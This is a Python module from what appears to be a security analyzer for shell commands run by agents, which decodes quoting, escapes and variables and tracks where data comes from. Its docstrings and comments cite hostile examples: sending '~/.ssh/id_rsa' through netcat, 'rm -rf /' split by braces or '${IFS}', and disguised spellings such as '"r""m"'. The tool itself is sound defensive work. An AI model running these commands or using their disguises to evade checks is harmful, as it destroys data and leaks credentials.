"""What a shell word means: quotes removed, escapes decoded, variables resolved where they are known.

The shell analyzer judges the value a command will really see (`"r""m"` is `rm`, `$T` is `/` when
`T=/` came earlier), and keeps the spelling as written for messages. Values also carry where their
data came from (a credential file, a download, the process list), so a flow such as
`cat ~/.ssh/id_rsa | nc host 9` can be followed from reader to sender.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import Any, NamedTuple

# kinds of Taint: where data in a value or a stream came from
CREDENTIAL = "credential"
SENSITIVE = "sensitive"
SYSTEM_FILE = "system-file"
FILE = "file"
REMOTE = "remote"
SOCKET = "socket"
PROCESSES = "processes"
ENVIRONMENT = "environment"
PATHS = "paths"
SHELL_OUTPUT = "shell"
ENDLESS = "endless"
"""Output that never ends (`yes`, `cat /dev/zero`): into a reader that stops it is harmless, into a
file it grows until the disk is full."""
ENDLESS_DEVICES = frozenset({"/dev/zero", "/dev/urandom", "/dev/random"})
"""Files that can be read forever."""


_MAX_TEXT = 100_000
"""Values longer than this are cut: no shell word an agent runs needs more, and it bounds the work."""


class Taint(NamedTuple):
    """A tuple, not a frozen dataclass: taints are built and hashed into sets for every file and URL
    the walk meets, and a tuple's constructor and hash run in C."""

    kind: str
    detail: str
    """The path, URL or host the data came from."""
    capability: str | None = None
    """For a credential, its `cred.read.*` capability."""
    filter: str | None = None
    """For PATHS (what `find` prints): the -name pattern that selects among them."""


@dataclass(slots=True, unsafe_hash=True)
class Stream:
    """What flows through a pipe: where it came from, and its text when the analyzer knows it.

    Treated as immutable and hashable like a frozen dataclass; not declared frozen because a frozen
    dataclass is several times slower to build, and the walk builds one per command.
    """

    taints: frozenset[Taint] = frozenset()
    content: str | None = None
    decoded: tuple[str, ...] = ()
    """Encodings peeled off to obtain `content` (base64, hex, rev, …), outermost first."""
    line: int | None = None
    """For a heredoc, the line its body starts on, so code run from it is reported on its own lines."""

    def union(self, other: Stream) -> Stream:
        if not other.taints and other.content is None:
            return self
        if not self.taints and self.content is None:
            return other
        return Stream(self.taints | other.taints, None, self.decoded + other.decoded)


NOTHING = Stream()


def endless_source(stream: Stream) -> str | None:
    """The program whose endless output `stream` carries, if it does."""
    for taint in stream.taints:
        if taint.kind == ENDLESS:
            return taint.detail
    return None


def without_endless(stream: Stream) -> Stream:
    """`stream` once a reader that stops has consumed it (`yes | head -n 5`)."""
    return Stream(
        frozenset(t for t in stream.taints if t.kind != ENDLESS), stream.content, stream.decoded, stream.line
    )


@dataclass(slots=True)
class Value:
    """One word after expansion. `text` holds unresolved variables as `$NAME`.

    Treated as immutable (copies are made with `replace`); not frozen only because frozen
    dataclasses are several times slower to build, and the walk builds one per word.
    """

    text: str
    raw: str
    known: bool = True
    leading: str | None = None
    """An unresolved variable the value starts with, which may be empty (`"$BUILD/"` -> `BUILD`)."""
    taints: frozenset[Taint] = frozenset()
    decoded: tuple[str, ...] = ()
    disguised: bool = False
    """Spelled to hide what it says: ANSI-C escapes, quotes splitting a word (`"r""m"`, `r\\m`)."""
    quoted: bool = False
    file: Stream | None = None
    """For a process substitution `<(…)`: what reading this path yields."""
    tree: bool = False
    """It stands for every entry under `text` (find's `{}`, items from `find` through xargs)."""
    filter: str | None = None

    @property
    def shown(self) -> str:
        """The value for a message: resolved when known, as written otherwise."""
        return self.text if self.known else self.raw

    def with_text(self, text: str) -> Value:
        return self.changed(text=text)

    def changed(
        self, *, text: str | None = None, raw: str | None = None, quoted: bool | None = None
    ) -> Value:
        """A copy with its text, spelling or quoting changed: the walk makes one per word it resolves,
        and `dataclasses.replace` costs several times more."""
        return Value(
            self.text if text is None else text,
            self.raw if raw is None else raw,
            self.known,
            self.leading,
            self.taints,
            self.decoded,
            self.disguised,
            self.quoted if quoted is None else quoted,
            self.file,
            self.tree,
            self.filter,
        )


EMPTY = Value(text="", raw="")


def literal(text: str) -> Value:
    return Value(text=text, raw=text)


def unknown(raw: str, *, leading: str | None = None, taints: frozenset[Taint] = frozenset()) -> Value:
    return Value(text=raw, raw=raw, known=False, leading=leading, taints=taints)


Substitute = Callable[[Any, bool], Stream]
"""Runs the commands of a `$(…)` or `<(…)` node (second argument: True for process substitution)."""


@dataclass(slots=True)
class Environment:
    """Shell variables the analyzer has seen assigned, and positional parameters inside a function."""

    variables: dict[str, Value] = field(default_factory=dict)
    positional: list[Value] | None = None

    def child(self, positional: list[Value] | None) -> Environment:
        return Environment(dict(self.variables), positional)

    def lookup(self, name: str) -> Value | None:
        if name.isdigit():
            if self.positional is None:
                return None
            index = int(name)
            if index == 0:
                return None
            return self.positional[index - 1] if index <= len(self.positional) else literal("")
        if name == "#" and self.positional is not None:
            return literal(str(len(self.positional)))
        return self.variables.get(name)


_WELL_KNOWN = {"PWD": ".", "TMPDIR": "/tmp", "IFS": " "}
"""Variables that are always set and whose meaning is fixed for the analyzer's purpose."""
_SYMBOLIC = frozenset({"HOME", "USER", "LOGNAME"})
"""Always set, and the path classifier reads them as written (`$HOME/x`, `/home/$USER`)."""
_NEVER_EMPTY = frozenset({"HOME", "PWD", "TMPDIR", "USER", "LOGNAME", "SHELL", "PATH", "HOSTNAME", "UID"})


class WordReader:
    """Evaluates tree-sitter word nodes against an environment. One per walk; cheap to build."""

    def __init__(
        self,
        source: bytes,
        environment: Environment,
        substitute: Substitute,
        ascii_text: str | None = None,
    ) -> None:
        self.source = source
        self.environment = environment
        self.substitute = substitute
        self.ascii_text = ascii_text
        """`source` as a string when it is all ASCII (byte offsets are then string offsets): a slice
        of it is the text of a node without decoding bytes for every word."""

    def text(self, node: Any) -> str:
        if self.ascii_text is not None:
            return self.ascii_text[node.start_byte : node.end_byte]
        return self.source[node.start_byte : node.end_byte].decode("utf-8", "replace")

    def words(self, node: Any) -> list[Value]:
        """The words `node` expands to: an unquoted `$X` holding `rm -rf` is two words; `"$@"` is many."""
        kind = node.type
        if kind == "word":
            word = self._word(node)
            if "{" in word.raw and "," in word.raw:
                return brace_expansion(word)
            return [word]
        if kind == "concatenation":
            joined = self.value(node)
            if joined.known and any(ch in joined.text for ch in " \t\n") and _splits(node):
                return [literal(part) for part in joined.text.split()]
            return [joined]
        if kind in ("simple_expansion", "expansion"):
            name = _expansion_name(node, self)
            if name in ("@", "*") and self.environment.positional is not None:
                return list(self.environment.positional)
            value = self.value(node)
            if value.known and not value.quoted and (" " in value.text or "\t" in value.text):
                return [value.changed(text=part, raw=part) for part in value.text.split()]
            return [value]
        if kind == "string" and node.named_child_count == 1:
            only = node.named_children[0]
            if only.type == "simple_expansion" and _expansion_name(only, self) == "@":
                positional = self.environment.positional
                if positional is not None:
                    return list(positional)
        return [self.value(node)]

    def value(self, node: Any) -> Value:
        kind = node.type
        if kind == "word":
            return self._word(node)
        if kind == "number":
            return literal(self.text(node))
        if kind == "raw_string":
            raw = self.text(node)
            return Value(text=raw[1:-1], raw=raw, quoted=True)
        if kind == "string" or kind == "translated_string":
            return self._string(node)
        if kind == "ansi_c_string":
            raw = self.text(node)
            text, escaped = decode_ansi_c(raw[2:-1])
            return Value(text=text, raw=raw, quoted=True, disguised=escaped)
        if kind == "concatenation":
            return self._concatenation(node)
        if kind == "simple_expansion":
            return self._variable(node, _expansion_name(node, self), None, None)
        if kind == "expansion":
            return self._expansion(node)
        if kind == "command_substitution":
            stream = self.substitute(node, False)
            raw = self.text(node)
            if stream.content is not None:
                text = stream.content.rstrip("\n")
                return Value(text=text[:_MAX_TEXT], raw=raw, taints=stream.taints, decoded=stream.decoded)
            return Value(text=raw, raw=raw, known=False, leading=raw, taints=stream.taints)
        if kind == "process_substitution":
            stream = self.substitute(node, True)
            raw = self.text(node)
            return Value(text="/dev/fd/63", raw=raw, known=False, taints=stream.taints, file=stream)
        if kind == "command_name":
            children = node.named_children
            return self.value(children[0]) if children else literal(self.text(node))
        raw = self.text(node)
        if kind in ("arithmetic_expansion", "array", "brace_expression"):
            return Value(text=raw, raw=raw, known=kind == "brace_expression")
        return Value(text=raw, raw=raw, known=kind in ("extglob_pattern", "regex", "test_operator"))

    # ------------------------------------------------------------------ node kinds
    def _word(self, node: Any) -> Value:
        raw = self.text(node)
        if "\\" not in raw:
            return Value(raw, raw)
        out: list[str] = []
        disguised = False
        index = 0
        while index < len(raw):
            char = raw[index]
            if char == "\\" and index + 1 < len(raw):
                following = raw[index + 1]
                if following == "\n":
                    index += 2
                    continue
                # `\rm` (skip aliases) is an idiom; a backslash inside a word (`r\m`) is a disguise
                disguised = disguised or (index > 0 and following.isalnum())
                out.append(following)
                index += 2
                continue
            out.append(char)
            index += 1
        return Value(text="".join(out), raw=raw, disguised=disguised)

    def _string(self, node: Any) -> Value:
        raw = self.text(node)
        children = node.named_children
        if len(children) == 1 and children[0].type == "string_content":
            return Value(text=_unescape_double_quoted(raw[1:-1]), raw=raw, quoted=True)
        parts: list[Value] = []
        for child in children:
            if child.type == "string_content":
                parts.append(literal(_unescape_double_quoted(self.text(child))))
            else:
                parts.append(self.value(child))
        if not parts:
            return Value(text="", raw=raw, quoted=True)
        if len(parts) == 1:
            only = parts[0]
            return only if only.raw == raw and only.quoted else only.changed(raw=raw, quoted=True)
        return _join(parts, raw, quoted=True)

    def _concatenation(self, node: Any) -> Value:
        parts = [self.value(child) for child in node.named_children]
        joined = _join(parts, self.text(node))
        pieces = node.named_children
        if (
            not joined.disguised
            and len(pieces) > 1
            and joined.known
            and any(p.type in ("string", "raw_string", "ansi_c_string") for p in pieces)
            and joined.text.replace("_", "").replace("-", "").replace(".", "").isalnum()
        ):
            joined = replace(joined, disguised=True)
        return joined

    def _expansion(self, node: Any) -> Value:
        name = _expansion_name(node, self)
        operator = node.child_by_field_name("operator")
        op = self.text(operator) if operator is not None else None
        argument = None
        if operator is not None:
            after = [c for c in node.named_children if c.start_byte >= operator.end_byte]
            if after:
                argument = _join([self.value(c) for c in after], "".join(self.text(c) for c in after))
        raw = self.text(node)
        children = node.children
        if len(children) > 1 and children[1].type in ("#", "!"):
            return unknown(raw)  # ${#X} length, ${!X} indirection
        return self._variable(node, name, op, argument, raw=raw)

    def _variable(
        self, node: Any, name: str, op: str | None, argument: Value | None, *, raw: str | None = None
    ) -> Value:
        raw = raw if raw is not None else self.text(node)
        current = self.environment.lookup(name)
        if current is None and name in _WELL_KNOWN:
            current = literal(_WELL_KNOWN[name])
        is_set = current is not None
        empty = is_set and current is not None and current.known and current.text == ""
        if op in (":?", "?"):
            if current is not None and current.known and current.text:
                return current.changed(raw=raw, quoted=False)
            return Value(text=f"${name}", raw=raw, known=False)
        if op in (":-", "-", ":=", "="):
            if current is not None and current.known and not empty:
                return current.changed(raw=raw, quoted=False)
            if argument is not None and (empty or current is None):
                # not set by the script: the default is what it will most likely be
                return argument.changed(raw=raw)
            return Value(text=f"${name}", raw=raw, known=False)
        if op == ":+" or op == "+":
            return unknown(raw, leading=name)
        if op is not None:
            return unknown(raw, leading=name)
        if current is not None:
            if current.known and not current.quoted:
                return current
            return current.changed(raw=raw, quoted=False)
        if name in ("@", "*", "#", "?", "$", "!", "-", "0", "_"):
            return unknown(raw)
        if name in _SYMBOLIC:
            return Value(text=f"${name}", raw=raw)
        leading = None if name in _NEVER_EMPTY else name
        return Value(text=f"${name}", raw=raw, known=False, leading=leading)


_BRACES = re.compile(r"^([^{}'\"\\$`]*)\{([^{}'\"\\$`]*,[^{}'\"\\$`]*)\}([^{}'\"\\$`]*)$")


def brace_expansion(word: Value) -> list[Value]:
    """`{rm,-rf,/}` is three words to bash, and `a{b,c}` two: expand one brace group of a plain word."""
    match = _BRACES.match(word.raw)
    if match is None:
        return [word]
    prefix, body, suffix = match.groups()
    return [literal(f"{prefix}{item}{suffix}") for item in body.split(",")[:64]]


def _splits(node: Any) -> bool:
    """An unquoted concatenation is split on the whitespace its expansions bring (`rm${IFS}-rf${IFS}/`)."""
    return any(
        child.type in ("simple_expansion", "expansion", "command_substitution")
        for child in node.named_children
    )


def _expansion_name(node: Any, reader: WordReader) -> str:
    for child in node.named_children:
        if child.type in ("variable_name", "special_variable_name"):
            return reader.text(child)
        if child.type == "subscript":
            name = child.child_by_field_name("name")
            return reader.text(name) + "[]" if name is not None else "?"
    text = reader.text(node).lstrip("${")
    return text[:1] if text else "?"


def _join(parts: list[Value], raw: str, *, quoted: bool = False) -> Value:
    if len(parts) == 1:
        only = parts[0]
        return only if only.raw == raw else only.changed(raw=raw)
    text = "".join([p.text for p in parts])[:_MAX_TEXT]
    taints: frozenset[Taint] = frozenset()
    decoded: tuple[str, ...] = ()
    known_all = True
    disguised_any = False
    for part in parts:
        if part.taints:
            taints = taints | part.taints
        if part.decoded:
            decoded = decoded + part.decoded
        known_all = known_all and part.known
        disguised_any = disguised_any or part.disguised
    first = parts[0]
    leading = first.leading if not first.known and first.leading else None
    if leading is None and first.known and first.text == "" and len(parts) > 1 and not parts[1].known:
        leading = parts[1].leading
    return Value(
        text=text,
        raw=raw,
        known=known_all,
        leading=leading,
        taints=taints,
        decoded=decoded,
        disguised=disguised_any,
        quoted=quoted,
    )


def _unescape_double_quoted(text: str) -> str:
    if "\\" not in text:
        return text
    out: list[str] = []
    index = 0
    while index < len(text):
        char = text[index]
        if char == "\\" and index + 1 < len(text) and text[index + 1] in '"\\$`\n':
            if text[index + 1] != "\n":
                out.append(text[index + 1])
            index += 2
            continue
        out.append(char)
        index += 1
    return "".join(out)


_SIMPLE_ESCAPES = {
    "n": "\n",
    "t": "\t",
    "r": "\r",
    "a": "\a",
    "b": "\b",
    "e": "\x1b",
    "E": "\x1b",
    "f": "\f",
    "v": "\v",
    "\\": "\\",
    "'": "'",
    '"': '"',
    "?": "?",
}


def decode_ansi_c(text: str, *, printf: bool = False) -> tuple[str, bool]:
    """Decode `$'…'` (or printf / echo -e) escapes; the flag says whether hex, octal or unicode escapes hid characters."""
    if "\\" not in text:
        return text, False
    out: list[str] = []
    hidden = False
    index = 0
    length = len(text)
    while index < length:
        char = text[index]
        if char != "\\" or index + 1 >= length:
            out.append(char)
            index += 1
            continue
        code = text[index + 1]
        if code in _SIMPLE_ESCAPES:
            out.append(_SIMPLE_ESCAPES[code])
            index += 2
        elif code == "x":
            digits = _take(text, index + 2, 2, "0123456789abcdefABCDEF")
            if digits:
                out.append(chr(int(digits, 16)))
                hidden = True
                index += 2 + len(digits)
            else:
                out.append("\\x")
                index += 2
        elif code in "uU":
            digits = _take(text, index + 2, 4 if code == "u" else 8, "0123456789abcdefABCDEF")
            if digits and int(digits, 16) < 0x110000:
                out.append(chr(int(digits, 16)))
                hidden = True
                index += 2 + len(digits)
            else:
                out.append("\\" + code)
                index += 2
        elif code in "01234567":
            start = index + 1
            if printf and code == "0":
                start = index + 2
            digits = _take(text, start, 3, "01234567")
            if digits:
                out.append(chr(int(digits, 8) & 0xFF))
                hidden = True
                index = start + len(digits)
            else:
                out.append("\0")
                index = start
        elif code == "c" and index + 2 < length:
            out.append(chr(ord(text[index + 2]) & 0x1F))
            index += 3
        else:
            out.append("\\" + code)
            index += 2
    return "".join(out), hidden


def _take(text: str, start: int, count: int, allowed: str) -> str:
    end = start
    while end < len(text) and end - start < count and text[end] in allowed:
        end += 1
    return text[start:end]
